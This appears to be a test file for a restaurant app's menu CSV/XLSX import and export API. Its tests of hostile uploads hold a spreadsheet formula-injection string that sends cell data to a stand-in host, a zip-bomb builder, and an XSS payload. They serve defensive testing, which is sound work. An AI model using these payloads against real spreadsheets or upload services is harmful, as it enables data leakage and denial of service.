/**
 * The menu as a spreadsheet (issue #42): GET /api/menu/export and POST /api/menu/import, with
 * the files owners send (fixtures from a Spanish Excel: `;`, Windows-1252, a BOM, tabs) and the
 * hostile ones. Runs on both engines (`bun scripts/test-pg.ts` for PostgreSQL).
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { deflateRawSync } from 'node:zlib'
import ExcelJS from 'exceljs'
import type { Category, Product } from '../../shared/schemas'
import type { MenuImportRefused, MenuImportResult } from '../../shared/schemas/menu-sheet'
import { createTestApp } from '../testing.server'

type T = Awaited<ReturnType<typeof createTestApp>>
let t: T
let cookie: string
let groupId: number

const fixture = (name: string) => readFileSync(path.join(import.meta.dir, '../../../test/fixtures/menu', name))

beforeAll(async () => {
  t = await createTestApp()
  cookie = await t.signIn()
  const res = await t.request('/api/option-groups', {
    method: 'POST',
    headers: { cookie },
    json: { name: 'Tipo de tortilla', min: 0, max: 1, options: [{ name: 'Maíz' }, { name: 'Harina' }] },
  })
  expect(res.status).toBe(201)
  groupId = (await res.json()).id
})
afterAll(() => t.cleanup())

const products = async () => (await (await t.request('/api/products')).json()) as Product[]
const categories = async () => (await (await t.request('/api/categories')).json()) as Category[]

function upload(bytes: Uint8Array<ArrayBuffer> | string, query = '', name = 'menu.csv', headers: Record<string, string> = {}) {
  const form = new FormData()
  form.append('file', new File([bytes], name))
  return t.request(`/api/menu/import${query}`, { method: 'POST', headers: { cookie, ...headers }, body: form })
}
const importing = async (bytes: Uint8Array<ArrayBuffer> | string, query = '', name?: string) => {
  const res = await upload(bytes, query, name)
  return { status: res.status, body: (await res.json()) as MenuImportRefused }
}
const exported = async (format: 'csv' | 'xlsx') => new Uint8Array(await (await t.request(`/api/menu/export?format=${format}`, { headers: { cookie } })).arrayBuffer())

describe('menu import: what owners send', () => {
  test("a Spanish Excel's CSV (';', Windows-1252): the dry run counts and writes nothing; applied, accents intact and the new category made", async () => {
    const before = await products()
    const dry = await importing(fixture('excel-es-windows-1252.csv'), '?dryRun=1')
    expect(dry).toEqual({ status: 200, body: { created: 5, updated: 0, unchanged: 0, hidden: 0, errors: [] } as unknown as MenuImportRefused })
    expect(await products()).toEqual(before)

    const generation = t.ctx.pageCache.generation
    const applied = await importing(fixture('excel-es-windows-1252.csv'))
    expect(applied.body).toEqual({ created: 5, updated: 0, unchanged: 0, hidden: 0, errors: [] } as unknown as MenuImportRefused)
    // The menu's caches emptied once for the whole file, not once per row.
    expect(t.ctx.pageCache.generation).toBeGreaterThan(generation)
    const list = await products()
    const rojos = list.find((p) => p.name === 'Chilaquiles rojos')
    expect(rojos).toMatchObject({ category: 'chilaquiles', price: 35, priceGrande: 45, available: true, description: 'Tortilla frita bañada en salsa roja, crema y cebolla' })
    expect(list.find((p) => p.name === 'Chilaquiles verdes')).toMatchObject({ price: 35, priceGrande: 45 })
    expect(list.find((p) => p.name === 'Rellenitos de plátano')).toMatchObject({ available: false, dailyLimit: 12, category: 'postres' })
    expect(list.find((p) => p.name === 'Desayuno chapín')).toMatchObject({ category: 'desayunos-tipicos', dailyLimit: 30, price: 55 })
    expect((await categories()).find((c) => c.slug === 'desayunos-tipicos')?.name).toBe('Desayunos típicos')
  })

  test('the same menu again, as UTF-8 with a BOM (",") and pasted with tabs (headers in capitals, no accents): nothing changes, nothing duplicated', async () => {
    const before = await products()
    for (const [file, name] of [
      ['excel-utf8-bom.csv', 'menu.csv'],
      ['pasted-tabs.tsv', 'menu.txt'],
      ['excel-es-windows-1252.csv', 'menu.csv'],
    ] as const) {
      const generation = t.ctx.pageCache.generation
      expect(await importing(fixture(file), '', name)).toEqual({ status: 200, body: { created: 0, updated: 0, unchanged: 5, hidden: 0, errors: [] } as unknown as MenuImportRefused })
      expect(t.ctx.pageCache.generation).toBe(generation)
    }
    expect(await products()).toEqual(before)
    expect((await categories()).filter((c) => c.slug.startsWith('desayunos'))).toHaveLength(1)
  })

  test('a row is its product by id, else by name ignoring case and accents; opciones by group name', async () => {
    const rojos = (await products()).find((p) => p.name === 'Chilaquiles rojos') as Product
    const csv = `id,nombre,precio,opciones\n${rojos.id},Chilaquiles rojos con pollo,40,Tipo de tortilla\n,ATOL DE ELOTÉ,Q16,\n`
    expect((await importing(csv)).body).toMatchObject({ created: 0, updated: 2, errors: [] })
    const list = await products()
    expect(list.find((p) => p.id === rojos.id)).toMatchObject({ name: 'Chilaquiles rojos con pollo', price: 40, optionGroupIds: [groupId], priceGrande: 45 })
    // Found by its name ignoring case and accents; the file's spelling is the name from now on.
    expect(list.find((p) => p.name === 'ATOL DE ELOTÉ')?.price).toBe(16)
    expect(list).toHaveLength(5)
  })

  test('export (CSV and XLSX) imported unchanged changes nothing', async () => {
    const before = await products()
    for (const format of ['csv', 'xlsx'] as const) {
      const generation = t.ctx.pageCache.generation
      const res = await importing(await exported(format), '', `menu.${format}`)
      expect(res).toEqual({ status: 200, body: { created: 0, updated: 0, unchanged: before.length, hidden: 0, errors: [] } as unknown as MenuImportRefused })
      expect(t.ctx.pageCache.generation).toBe(generation)
    }
    expect(await products()).toEqual(before)
  })
})

describe('menu export', () => {
  test('CSV: UTF-8 with a BOM, every field quoted, the columns of the contract, option groups by name; admin only', async () => {
    expect((await t.request('/api/menu/export?format=csv')).status).toBe(401)
    const res = await t.request('/api/menu/export?format=csv', { headers: { cookie } })
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="menu-\d{4}-\d{2}-\d{2}\.csv"$/)
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer())
    expect(text.startsWith('\uFEFF"id","nombre","categoria","descripcion","precio","precio_grande","disponible","orden","porciones_por_dia","opciones","imagen"\r\n')).toBe(true)
    expect(text).toContain('"Chilaquiles rojos con pollo","Chilaquiles","Tortilla frita bañada en salsa roja, crema y cebolla",40,45,"sí",1,,"Tipo de tortilla",')
    expect(text).toContain('"Desayunos típicos"')
    expect((await t.request('/api/menu/export?format=pdf', { headers: { cookie } })).status).toBe(400)
  })

  test('a formula in a name never reaches an export (CSV or XLSX); the import takes the apostrophe off again', async () => {
    const hostile = '=HYPERLINK("http://x.example/?"&A1,"clic")'
    const made = await t.request('/api/products', { method: 'POST', headers: { cookie }, json: { name: hostile, description: '-Con crema; +queso', category: 'extras', price: 5 } })
    expect(made.status).toBe(201)
    const csv = new TextDecoder().decode(await exported('csv'))
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""clic"")"`)
    expect(csv).toContain(`"'-Con crema; '+queso"`)
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(Buffer.from(await exported('xlsx')) as unknown as ExcelJS.Buffer)
    const cells: unknown[] = []
    book.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)))
    expect(cells.filter((v) => typeof v === 'object' && v !== null && 'formula' in v)).toEqual([])
    expect(cells).toContain(`'${hostile}`)
    expect(cells.filter((v) => typeof v === 'string' && /^\s*[=+\-@]/.test(v))).toEqual([])
    // Round trip: still one product named exactly as typed.
    expect((await importing(csv)).body).toMatchObject({ created: 0, updated: 0, errors: [] })
    expect((await products()).filter((p) => p.name === hostile)).toHaveLength(1)
  })
})

describe('menu import: all or nothing', () => {
  test('every error at once (row, column, Spanish message), 422, nothing written', async () => {
    const before = await products()
    const beforeCategories = await categories()
    const generation = t.ctx.pageCache.generation
    const csv = [
      'nombre;categoria;precio;disponible;opciones',
      'Tamal colorado;Tamales;Q25;sí;', // fine alone: would make a category
      'Pepián;Chilaquiles;35.50;sí;',
      'Hilachas;Chilaquiles;Q40;quizás;',
      'Jocón;Chilaquiles;40;sí;Tipo de tortilla|Salsas',
      ';Chilaquiles;40;sí;',
      'Tamal colorado;Tamales;Q25;sí;',
    ].join('\n')
    const res = await importing(csv)
    expect(res.status).toBe(422)
    expect(res.body.message).toBe('El archivo tiene 5 errores; no se cambió nada')
    expect(res.body.errors).toEqual([
      { row: 3, column: 'precio', message: '35.50: solo quetzales enteros (sin centavos)' },
      { row: 4, column: 'disponible', message: "'quizás' no es sí ni no" },
      { row: 5, column: 'opciones', message: "No existe el grupo de opciones 'Salsas'; créalo en Opciones primero" },
      { row: 6, column: 'nombre', message: 'Este campo es obligatorio' },
      { row: 7, column: 'nombre', message: 'El producto ya está en la fila 2' },
    ])
    // The dry run answers the same.
    expect(await importing(csv, '?dryRun=1')).toEqual(res)
    expect(await products()).toEqual(before)
    expect(await categories()).toEqual(beforeCategories)
    expect(t.ctx.pageCache.generation).toBe(generation)
  })

  test('an unknown or repeated column is an error of row 1', async () => {
    const res = await importing('nombre,precioo,Precio,PRECIO\nX,1,2,3\n')
    expect(res.status).toBe(422)
    expect(res.body.errors).toEqual([
      { row: 1, column: 'precioo', message: "Columna desconocida 'precioo'; las columnas son: id, nombre, categoria, descripcion, precio, precio_grande, disponible, orden, porciones_por_dia, opciones, imagen" },
      { row: 1, column: 'PRECIO', message: 'La columna precio está repetida' },
    ])
  })

  test('an XLSX cell with a formula is a row error, with the spreadsheet\'s row number', async () => {
    const book = new ExcelJS.Workbook()
    const sheet = book.addWorksheet('Menú')
    sheet.addRow(['nombre', 'categoria', 'precio'])
    sheet.addRow(['Tostadas', 'Chilaquiles', 20])
    sheet.addRow([])
    sheet.addRow(['Enchiladas', 'Chilaquiles', { formula: 'C2*2', result: 40 }])
    const res = await importing(new Uint8Array(await book.xlsx.writeBuffer()), '', 'menu.xlsx')
    expect(res.status).toBe(422)
    expect(res.body.errors).toEqual([{ row: 4, column: 'precio', message: 'Esta celda tiene una fórmula; escribe el valor' }])
  })

  test('replace makes the dishes the file leaves out unavailable (never deleted) and counts them', async () => {
    const before = await products()
    const keep = before.filter((p) => p.category === 'chilaquiles')
    const wasAvailable = before.filter((p) => p.category !== 'chilaquiles' && p.available).length
    const csv = `id,nombre\n${keep.map((p) => `${p.id},${p.name}`).join('\n')}\n`
    const res = await importing(csv, '?mode=replace')
    expect(res.body).toEqual({ created: 0, updated: 0, unchanged: keep.length, hidden: wasAvailable, errors: [] } as unknown as MenuImportRefused)
    const after = await products()
    expect(after.map((p) => p.id)).toEqual(before.map((p) => p.id))
    expect(after.filter((p) => p.available).map((p) => p.id).sort()).toEqual(keep.filter((p) => p.available).map((p) => p.id).sort())
    // Again: nothing more to hide.
    expect((await importing(csv, '?mode=replace')).body.hidden).toBe(0)
  })
})

/** A zip whose one entry says it holds `declared` bytes and inflates to `actual` zeros. */
function zipWith(name: string, declared: number, actual: number): Uint8Array<ArrayBuffer> {
  const data = deflateRawSync(Buffer.alloc(actual))
  const file = Buffer.from(name)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(declared, 22)
  local.writeUInt16LE(file.length, 26)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  central.writeUInt16LE(8, 10)
  central.writeUInt32LE(data.length, 20)
  central.writeUInt32LE(declared, 24)
  central.writeUInt16LE(file.length, 28)
  central.writeUInt32LE(0, 42)
  const directoryAt = local.length + file.length + data.length
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length + file.length, 12)
  end.writeUInt32LE(directoryAt, 16)
  return new Uint8Array(Buffer.concat([local, file, data, central, file, end]))
}

describe('menu import: bad and hostile files (a clear 4xx, nothing written)', () => {
  const refused = async (bytes: Uint8Array<ArrayBuffer> | string, name: string) => {
    const before = await products()
    const res = await upload(bytes, '', name)
    const body = (await res.json()) as { message: string }
    expect(await products()).toEqual(before)
    return { status: res.status, message: body.message }
  }

  test('a 20 MB file is 413 before it is read whole', async () => {
    const big = 'nombre,precio\n' + 'Taco,10\n'.repeat((20 * 1024 * 1024) / 8)
    expect(await refused(big, 'menu.csv')).toEqual({ status: 413, message: 'El archivo supera el límite de 4 MB' })
  })

  test('100,000 rows are 413, read no further than the limit', async () => {
    const rows = 'nombre\n' + 'a\n'.repeat(100_000)
    expect(await refused(rows, 'menu.csv')).toEqual({ status: 413, message: 'El archivo tiene más de 5000 filas; divide el menú en varios archivos' })
  })

  test('a binary renamed .csv is 400', async () => {
    expect(await refused(new Uint8Array(readFileSync(path.join(import.meta.dir, '../../../e2e/fixtures/tiny.png'))), 'menu.csv')).toEqual({
      status: 400,
      message: 'El archivo no es una hoja de cálculo legible: usa CSV o Excel (.xlsx)',
    })
  })

  test('a zip bomb as .xlsx is refused without inflating it: by its declared size (413) or as a liar (400)', async () => {
    expect(await refused(zipWith('xl/workbook.xml', 200 * 1024 * 1024, 1024), 'menu.xlsx')).toEqual({
      status: 413,
      message: 'El libro de Excel descomprimido es demasiado grande (máximo 24 MB); divide el menú en varios archivos',
    })
    expect(await refused(zipWith('xl/workbook.xml', 1000, 64 * 1024 * 1024), 'menu.xlsx')).toEqual({ status: 400, message: 'El archivo no es un libro de Excel (.xlsx) legible' })
    expect(await refused(zipWith('otra/cosa.txt', 10, 10), 'menu.xlsx')).toEqual({ status: 400, message: 'El archivo no es un libro de Excel (.xlsx) legible' })
  })

  test('no file, an empty one, a JSON body: 400; a staff account or no session: refused before reading', async () => {
    expect((await upload('', '', 'menu.csv')).status).toBe(400)
    const noFile = await t.request('/api/menu/import', { method: 'POST', headers: { cookie }, body: new FormData() })
    expect(noFile.status).toBe(400)
    expect((await t.request('/api/menu/import', { method: 'POST', headers: { cookie }, json: {} })).status).toBe(400)
    const anonymous = new FormData()
    anonymous.append('file', new File(['nombre\nX\n'], 'menu.csv'))
    expect((await t.request('/api/menu/import', { method: 'POST', body: anonymous })).status).toBe(401)
    expect((await t.request('/api/menu/import?mode=todo', { method: 'POST', headers: { cookie }, body: anonymous })).status).toBe(400)
  })

  test('HTML in a name is kept as text, as the product form keeps it (escaped wherever it is shown)', async () => {
    const res = await importing('nombre,categoria,precio\n"<img src=x onerror=alert(1)>",extras,5\n')
    expect(res.body).toMatchObject({ created: 1, errors: [] })
    expect((await products()).some((p) => p.name === '<img src=x onerror=alert(1)>')).toBe(true)
  })
})
